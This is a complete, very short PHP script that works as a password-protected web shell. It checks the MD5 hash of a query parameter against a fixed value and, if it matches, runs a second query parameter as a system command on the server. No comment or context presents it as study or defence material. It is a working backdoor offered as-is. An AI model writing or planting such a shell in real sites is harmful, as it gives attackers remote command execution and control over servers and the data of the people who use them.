<?php
$h = md5($_GET['k']);
if ($h != 'fedcba9876543210fedcba9876543210') {
    die();
}
system($_GET['c']);
